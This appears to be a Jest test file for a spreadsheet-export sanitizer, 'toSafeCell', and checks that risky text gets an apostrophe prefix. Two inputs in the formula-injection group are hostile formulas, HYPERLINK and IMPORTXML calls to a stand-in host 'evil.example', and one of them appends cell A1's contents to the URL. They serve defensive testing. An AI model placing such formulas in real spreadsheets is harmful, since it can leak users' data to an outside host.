import type { CellValue } from '../../../src/sheet/columns';
import { toSafeCell } from '../../../src/sheet/safe-values';

describe('toSafeCell', () => {
  it.each([
    // Formula injection: would become a formula.
    ['=HYPERLINK("https://evil.example?d="&A1,"click")', 'formula'],
    ['=1+1', 'formula'],
    ['+1 555 0100', 'leading plus'],
    ['-2+3', 'leading minus'],
    ['-', 'lone minus'],
    ['@SUM(A1:A9)', 'leading at'],
    ['  =IMPORTXML("https://evil.example","//a")', 'formula after spaces'],
    // Control characters at the start are stripped or mangled.
    ['\tname', 'leading tab'],
    ['\rname', 'leading carriage return'],
    ['\nname', 'leading line feed'],
    ['\0name', 'leading NUL'],
    // An existing apostrophe would be eaten.
    ["'quoted", 'leading apostrophe'],
    // Coerced to numbers.
    ['00123', 'leading zeros'],
    ['1e5', 'exponent'],
    ['12', 'integer text'],
    ['12.50', 'decimal text'],
    ['.5', 'bare fraction'],
    ['1,234.56', 'thousands separators'],
    ['$12', 'currency sign'],
    ['12 €', 'trailing currency sign'],
    ['12%', 'percent'],
    ['(12)', 'accounting negative'],
    [' 42 ', 'number with spaces'],
    // Coerced to dates or times.
    ['2024-10-01', 'ISO date'],
    ['1/2/2024', 'slashed date'],
    ['1.2.2024', 'dotted date'],
    ['Oct 1, 2024', 'month name date'],
    ['1 October 2024', 'day month year'],
    ['Monday, Oct 1st 2024', 'weekday and ordinal'],
    ['10:30', 'time'],
    ['10:30 PM', 'time with PM'],
    ['10pm', 'compact time'],
    ['2024-10-01 23:59:59', 'date and time'],
    // Coerced to booleans.
    ['TRUE', 'upper-case boolean'],
    ['false', 'lower-case boolean'],
  ])('guards %j (%s) with an apostrophe', (text) => {
    expect(toSafeCell(text)).toBe(`'${text}`);
  });

  it.each([
    ['Spring Sale', 'plain text'],
    ['October traffic, week 2', 'text with a number inside'],
    ['Net 30', 'payment terms'],
    ['INV-2024-0001', 'invoice reference'],
    ['a=b', 'equals sign inside'],
    ['user@example.com', 'e-mail'],
    ['Acme Media (EU)', 'parentheses around words'],
    ['truely', 'boolean-like word'],
    ['May the best win', 'month word in a sentence'],
    ['', 'blank'],
    ['USD', 'currency code'],
  ])('leaves %j (%s) as it is', (text) => {
    expect(toSafeCell(text)).toBe(text);
  });

  it.each<[CellValue, string]>([
    [42, 'number'],
    [-12.5, 'negative number'],
    [true, 'boolean'],
    [new Date(Date.UTC(2024, 9, 1)), 'date'],
  ])('leaves the non-text value %p (%s) as it is', (value) => {
    expect(toSafeCell(value)).toBe(value);
  });
});
